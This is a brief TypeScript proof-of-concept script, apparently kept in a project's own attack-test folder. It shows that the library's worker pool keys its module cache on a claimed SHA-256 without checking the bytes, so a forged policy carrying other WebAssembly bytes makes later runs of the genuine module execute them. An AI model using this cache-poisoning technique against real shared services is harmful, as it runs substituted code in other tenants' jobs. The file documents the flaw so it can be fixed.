/**
 * Library API: Pool.runPolicy (and runPolicy(policy, { pool })) trusts policy.moduleSha256 as the
 * cache key without hashing policy.moduleBytes. A Policy whose bytes differ from its hash (built
 * by buildPolicy, then its bytes replaced or mutated in place) poisons the pool's module cache:
 * every later run of the genuine module with that hash runs the other bytes.
 * Run: deno run -A --unstable-worker-options attacks/module_cache_unverified_hash.ts HELLO.wasm EVIL.wasm
 */
import { buildPolicy, createPool } from "../mod.ts";
const [hello, evil] = Deno.args;
const pool = createPool({ size: 0 });
const tenantA = buildPolicy({ module: hello });
const forged = { ...tenantA, moduleBytes: Deno.readFileSync(evil) }; // same sha256, other bytes
console.log("forged run :", JSON.stringify((await pool.runPolicy(forged)).stdout));
const victim = await pool.run({ module: hello });
console.log("victim run :", JSON.stringify(victim.stdout), "sha", victim.policy?.module_sha256);
pool.close();
